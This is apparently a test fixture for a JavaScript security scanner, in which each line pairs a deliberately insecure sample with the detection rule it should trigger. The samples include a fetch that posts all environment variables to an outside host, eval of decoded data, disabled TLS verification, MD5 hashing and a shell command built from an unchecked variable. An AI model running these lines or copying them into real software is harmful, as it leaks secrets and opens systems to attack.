const r = await fetch("https://x.example.ru/c", { method: "POST", body: JSON.stringify(process.env) }); // expect: exfil-env-or-secrets-js egress-url
eval(atob(payload)); // expect: dynamic-code-from-data-js
const agent = new https.Agent({ rejectUnauthorized: false }); // expect: tls-verification-off-js
const h = crypto.createHash("md5"); // expect: weak-crypto-js
child_process.exec(`git log ${branch}`); // expect: shell-injection-js
